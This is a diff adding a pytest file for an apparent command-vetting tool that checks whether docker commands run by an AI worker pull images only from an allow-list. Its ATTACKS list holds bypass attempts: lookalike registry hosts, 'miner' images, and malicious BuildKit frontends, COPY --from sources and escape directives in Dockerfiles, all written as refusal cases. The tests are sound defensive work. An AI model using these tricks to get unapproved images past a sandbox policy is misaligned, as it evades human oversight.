@@ -1,0 +1,138 @@
+"""Image sources (policy [images] allowed): every route an image takes into the engine
+is refused when it is not on the list, and allowed with no list (the control)."""
+
+from __future__ import annotations
+
+import pytest
+
+from gatekeeper.decision import decide
+from gatekeeper.errors import Denied
+from gatekeeper.policy import load_policy
+from gatekeeper.vetting.images import check_dockerfile, matches, repository
+from tests.fakes import StaticWorld
+
+ALLOWED = """\
+[images]
+allowed = ["docker.io/library/*", "registry.example.com/team/**", "docker.io/docker/dockerfile"]
+"""
+APP = "/home/ai-worker/app"
+
+
+def dockerfile(text: str) -> StaticWorld:
+    return StaticWorld(files={f"{APP}/Dockerfile": text.encode()})
+
+
+@pytest.fixture(scope="module")
+def listed(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
+    path = tmp_path_factory.mktemp("images") / "images.toml"
+    path.write_text(ALLOWED)
+    return load_policy(str(path))
+
+
+@pytest.fixture(scope="module")
+def unlisted():  # type: ignore[no-untyped-def]
+    return load_policy(None)
+
+
+# (command, Dockerfile for the build context or None): refused under [images], allowed without
+ATTACKS = [
+    ("docker pull ghcr.io/evil/miner", None),
+    ("docker pull evil/nginx", None),
+    ("docker pull docker.io.evil.com/library/nginx", None),
+    ("docker pull registry.example.com/other/x", None),
+    ("docker run --rm quay.io/evil/x true", None),
+    ("docker create evil/x", None),
+    (f"docker build {APP}", "FROM ghcr.io/evil/base\n"),
+    (f"docker build {APP}", "FROM alpine AS a\nFROM a\nCOPY --from=evil/tools /x /x\n"),
+    (f"docker build {APP}", "FROM alpine\nRUN --mount=type=bind,from=evil/tools,target=/t true\n"),
+    (f"docker build {APP}", "# syntax=evil/frontend:1\nFROM alpine\n"),
+    (f"docker build {APP}", "FROM alpine\nONBUILD COPY --from=evil/x / /\n"),
+    (f"docker build {APP}", "FROM \\\n  evil/split\n"),
+    (f"docker build {APP}", "ARG BASE=alpine\nFROM $BASE\n"),
+    (f"docker build --build-context x=docker-image://evil/y {APP}", "FROM alpine\n"),
+    (f"docker build --build-arg BUILDKIT_SYNTAX=evil/frontend {APP}", "FROM alpine\n"),
+]
+
+
+@pytest.mark.parametrize(("command", "text"), ATTACKS, ids=[f"{c} | {t!r}" for c, t in ATTACKS])
+def test_refused_off_the_list_allowed_without_one(command: str, text: str | None, listed, unlisted) -> None:  # type: ignore[no-untyped-def]
+    world = dockerfile(text or "")
+    assert decide(command, unlisted, world).allowed  # control: no [images] list
+    decision = decide(command, listed, world)
+    assert (decision.allowed, decision.rule) == (False, "image-source"), decision.reason
+
+
+GOOD = [
+    ("docker pull nginx", None),
+    ("docker pull nginx:1.27", None),
+    ("docker pull library/nginx@sha256:" + "a" * 64, None),
+    ("docker pull index.docker.io/nginx", None),
+    ("docker pull registry.example.com/team/app/api:1", None),
+    ("docker run --rm alpine true", None),
+    (f"docker build {APP}", "# syntax=docker/dockerfile:1\nFROM alpine:3.20 AS build\nFROM scratch\n"
+                            "COPY --from=build /x /x\nCOPY --from=0 /y /y\n"),
+    (f"docker build -t app:1 {APP}",
+     "FROM --platform=linux/amd64 registry.example.com/team/base AS b\nFROM b\n"),
+]
+
+
+@pytest.mark.parametrize(("command", "text"), GOOD, ids=[c for c, _ in GOOD])
+def test_listed_sources_are_allowed(command: str, text: str | None, listed) -> None:  # type: ignore[no-untyped-def]
+    decision = decide(command, listed, dockerfile(text or ""))
+    assert decision.allowed, decision.reason
+
+
+def test_stdin_dockerfile_cannot_be_checked(listed, unlisted) -> None:  # type: ignore[no-untyped-def]
+    assert decide(f"docker build -f - {APP}", unlisted, StaticWorld()).allowed
+    assert decide(f"docker build -f - {APP}", listed, StaticWorld()).rule == "image-source"
+
+
+@pytest.mark.parametrize(("reference", "name"), [
+    ("nginx", "docker.io/library/nginx"),
+    ("nginx:1.27", "docker.io/library/nginx"),
+    ("user/app", "docker.io/user/app"),
+    ("localhost/app", "localhost/app"),
+    ("localhost:5000/app:1", "localhost:5000/app"),
+    ("registry-1.docker.io/nginx", "docker.io/library/nginx"),
+    ("ghcr.io/o/r@sha256:abc", "ghcr.io/o/r"),
+])
+def test_references_normalise_as_docker_does(reference: str, name: str) -> None:
+    assert repository(reference) == name
+
+
+@pytest.mark.parametrize("reference", ["NGINX", "a//b", "$X", "nginx ", ""])
+def test_malformed_references(reference: str) -> None:
+    with pytest.raises(ValueError):
+        repository(reference)
+
+
+def test_patterns_never_cross_a_slash() -> None:
+    assert matches("ghcr.io/acme/app", "ghcr.io/acme/*")
+    assert not matches("ghcr.io/acme/a/b", "ghcr.io/acme/*")
+    assert matches("ghcr.io/acme/a/b", "ghcr.io/acme/**")
+    assert not matches("ghcr.io/acme", "ghcr.io/acme/**")
+    assert not matches("evil.com/x.example.com/y", "*.example.com/*")
+
+
+def test_compose_images(listed) -> None:  # type: ignore[no-untyped-def]
+    from gatekeeper.vetting.images import vet_model_images
+
+    class Ctx:
+        policy = listed
+        world = StaticWorld(files={f"{APP}/Dockerfile": b"FROM evil/base\n"})
+
+        def host_path(self, value: str, what: str) -> str:
+            return value
+
+    vet_model_images(Ctx(), {"services": {"web": {"image": "nginx:1.27"}}})  # type: ignore[arg-type]
+    for service in ({"image": "evil/web"}, {"build": {"context": APP}},
+                    {"build": {"context": APP, "dockerfile_inline": "FROM evil/x"}},
+                    {"build": {"context": "/x", "args": {"BUILDKIT_SYNTAX": "evil/f"}}}):
+        with pytest.raises(Denied) as refused:
+            vet_model_images(Ctx(), {"services": {"web": service}})  # type: ignore[arg-type]
+        assert refused.value.rule == "image-source"
+
+
+def test_dockerfile_escape_directive() -> None:
+    with pytest.raises(Denied):
+        check_dockerfile("# escape=`\nFROM `\n  evil/x\n", ["docker.io/library/*"], "Dockerfile")
